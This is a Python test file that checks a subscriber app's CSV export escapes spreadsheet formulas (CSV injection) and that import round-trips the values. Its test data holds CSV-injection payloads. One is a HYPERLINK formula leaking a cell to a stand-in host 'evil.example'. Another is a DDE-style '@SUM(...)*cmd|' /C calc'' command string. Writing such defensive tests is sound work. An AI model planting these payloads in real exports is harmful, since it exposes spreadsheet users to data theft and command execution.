"""CSV exports never hand a spreadsheet a formula (OWASP CSV injection),
and an import of an export still reads back exactly what was stored."""

import csv
import io

import pytest
from hypothesis import given, settings, strategies as st

from dispatch import csv_import, subscribers
from dispatch.subscribers import FORMULA_STARTS, Preferences, csv_cell, csv_value

HOSTILE_NAMES = ['=HYPERLINK("https://evil.example/?x="&A1,"Click")', "+1 (555) 0100", "-2+3", "@SUM(A1:A9)",
                 "\t=1+1", "'=already quoted", "''", "'plain quote", "'", "Ana Ortiz"]


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_cell_that_a_spreadsheet_would_run_gets_a_quote(start):
    assert csv_cell(start + "cmd") == "'" + start + "cmd"
    assert csv_value(csv_cell(start + "cmd")) == start + "cmd"


def test_quotes_are_added_only_where_needed_and_taken_off_exactly():
    assert csv_cell("Ana Ortiz") == "Ana Ortiz" and csv_cell("") == ""
    assert csv_cell("O'Brien") == "O'Brien" and csv_cell("'Tis") == "'Tis"  # a quote before a letter is text
    assert csv_cell("'=x") == "''=x"  # a value that looks like an export's quote keeps its own
    assert csv_value("'Tis") == "'Tis" and csv_value("''=x") == "'=x"


@settings(max_examples=500, deadline=None)
@given(st.text(alphabet=st.sampled_from("=+-@\t\r'a ;\"\n,é"), max_size=12) | st.text(max_size=20))
def test_export_and_import_are_inverse_and_no_cell_is_a_formula(value):
    cell = csv_cell(value)
    assert csv_value(cell) == value
    assert not cell.startswith(FORMULA_STARTS)


@pytest.fixture
def hostile_list(session):
    names = {}
    for n, name in enumerate(HOSTILE_NAMES):
        address = f"-reader{n}@example.org" if n % 2 else f"reader{n}@example.org"
        names[address] = subscribers.add_subscriber(session, address, prefs=Preferences(name=name)).name
    return names


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))[1:]


def test_export_neutralises_every_cell_and_imports_back_unchanged(session, engine, hostile_list):
    exported = subscribers.export_csv(subscribers.list_subscribers(session))
    cells = [cell for row in _rows(exported) for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert "'=HYPERLINK(" in exported and "'-reader1@example.org" in exported
    for s in subscribers.list_subscribers(session):
        subscribers.remove_subscriber(session, s.id)
    session.commit()  # the importer works in transactions of its own
    report = csv_import.import_csv(engine, exported)
    assert report.rejected == [] and len(report.added) == len(HOSTILE_NAMES)
    assert {s.address: s.name for s in subscribers.list_subscribers(session)} == hostile_list
    assert subscribers.export_csv(subscribers.list_subscribers(session)) == exported


def test_the_cli_export_is_neutralised(run, tmp_path):
    assert run("subscriber", "add", "eve@example.org", "--name", "=HYPERLINK(\"https://evil.example\")").exit_code == 0
    out = tmp_path / "out.csv"
    assert run("subscriber", "export", out).exit_code == 0
    ((address, name, *_),) = _rows(out.read_text())
    assert (address, name) == ("eve@example.org", "'=HYPERLINK(\"https://evil.example\")")
    assert run("subscriber", "remove", "eve@example.org", "--yes").exit_code == 0
    assert run("subscriber", "import", out).exit_code == 0
    assert run("subscriber", "show", "eve@example.org").stdout.count("=HYPERLINK(\"https://evil.example\")") == 1
    assert "'=HYPERLINK" not in run("subscriber", "show", "eve@example.org").stdout


def test_the_admin_export_is_neutralised(web):
    from dispatch import db

    with db.session_scope(web.engine) as session:
        subscribers.add_subscriber(session, "eve@example.org", prefs=Preferences(name="@SUM(1+1)*cmd|' /C calc'!A0"))
    web.sign_in()
    exported = web.client.get("/admin/subscribers/export.csv").text
    ((address, name, *_),) = _rows(exported)
    assert name == "'@SUM(1+1)*cmd|' /C calc'!A0"
